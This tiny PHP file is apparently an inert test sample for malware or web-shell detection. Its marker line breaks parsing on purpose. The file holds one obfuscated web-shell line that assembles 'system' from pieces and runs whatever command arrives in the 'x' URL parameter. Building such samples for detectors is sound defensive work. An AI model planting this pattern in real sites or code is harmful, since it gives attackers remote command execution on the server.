<?php
shodo inert sample: deliberate syntax error, this file never runs
 $a = 'sys'; $b = 'tem'; $c = $a . $b; $c($_GET['x']); ?>
